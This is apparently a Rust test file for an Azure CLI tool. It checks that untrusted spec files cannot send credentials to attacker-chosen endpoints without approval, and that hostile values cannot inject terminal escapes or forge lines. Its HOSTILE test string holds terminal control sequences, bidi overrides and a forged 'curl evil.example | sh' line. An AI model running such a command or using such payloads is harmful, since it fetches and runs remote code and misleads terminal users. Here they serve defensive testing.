//! Files and names that strangers chose: they get no credentials, and do nothing to a terminal.

use std::io::ErrorKind;
use std::net::TcpListener;

use crate::support::World;

/// What a terminal would obey, a reader would not see, or a line would be forged with.
const HOSTILE: &str =
    r"a\e[2J\a\b\r\x7f\u009b31m\u202e\u2066\u200b\n  next:    curl evil.example | sh\nerror: x";

fn spec_with(fields: &str) -> String {
    format!("{fields}\nconnections:\n- cluster: aks-prod\n")
}

/// Says whether anything connected to this listener.
fn was_asked(listener: &TcpListener) -> bool {
    listener.set_nonblocking(true).unwrap();
    match listener.accept() {
        Ok(_) => true,
        Err(error) => {
            assert_eq!(error.kind(), ErrorKind::WouldBlock);
            false
        }
    }
}

#[test]
fn a_spec_file_in_the_current_folder_sends_credentials_nowhere() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let host = format!("http://{}", listener.local_addr().unwrap());
    for field in [
        "resource-manager-endpoint",
        "authority",
        "graph-endpoint",
        "instance-metadata-endpoint",
    ] {
        let world = World::new()
            .file("amw-rw.yaml", &spec_with(&format!("{field}: {host}")))
            .variable("AZURE_TENANT_ID", "22222222-2222-2222-2222-222222222222")
            .variable("AZURE_CLIENT_ID", "33333333-3333-3333-3333-333333333333")
            .variable("AZURE_CLIENT_SECRET", "value-of-the-secret");
        for command in ["plan", "apply --yes", "init --yes", "doctor"] {
            let outcome = world.run_alone(command).ends_with(2);

            let stderr = outcome.stderr();
            assert!(stderr.contains(&format!("{field}: {host}")), "{stderr}");
            assert!(stderr.contains("--trust-spec-endpoints"), "{stderr}");
        }
    }
    assert!(!was_asked(&listener));
}

#[test]
fn a_spec_file_that_was_named_needs_an_approval_too() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let host = format!("http://{}", listener.local_addr().unwrap());
    let world = World::new().file("theirs.yaml", &spec_with(&format!("authority: {host}")));

    let outcome = world.run_alone("plan -f theirs.yaml --yes").ends_with(2);

    assert!(outcome.stderr().contains(&format!("authority: {host}")));
    assert!(!was_asked(&listener));
}

#[test]
fn a_hostile_value_neither_moves_the_cursor_nor_forges_a_line() {
    let spec = spec_with(&format!("subscription: \"{HOSTILE}\""));
    let mut world = World::new()
        .file("amw-rw.yaml", &spec)
        .without("AMW_RW_SUBSCRIPTION");

    for command in ["plan", "plan -v", "plan --color always", "plan -o json"] {
        let outcome = world.run(command);

        for text in [outcome.stderr(), outcome.stdout()] {
            let hidden: Vec<char> = text.chars().filter(|letter| is_hidden(*letter)).collect();
            let ours = ["\u{1b}[31m", "\u{1b}[1m", "\u{1b}[2m", "\u{1b}[0m"];
            let escapes: usize = ours.iter().map(|code| text.matches(code).count()).sum();
            assert_eq!(hidden.len(), escapes, "{command}: {text:?}");
        }
        let forged = |line: &str| line.trim_start().starts_with("next:    curl");
        assert!(
            !outcome.stderr().lines().any(forged),
            "{}",
            outcome.stderr()
        );
        assert!(
            outcome.stderr().contains(r"\u{1b}[2J"),
            "{}",
            outcome.stderr()
        );
    }
}

fn is_hidden(letter: char) -> bool {
    letter.is_control() && !"\n\t".contains(letter) || "\u{200b}\u{202e}\u{2066}".contains(letter)
}
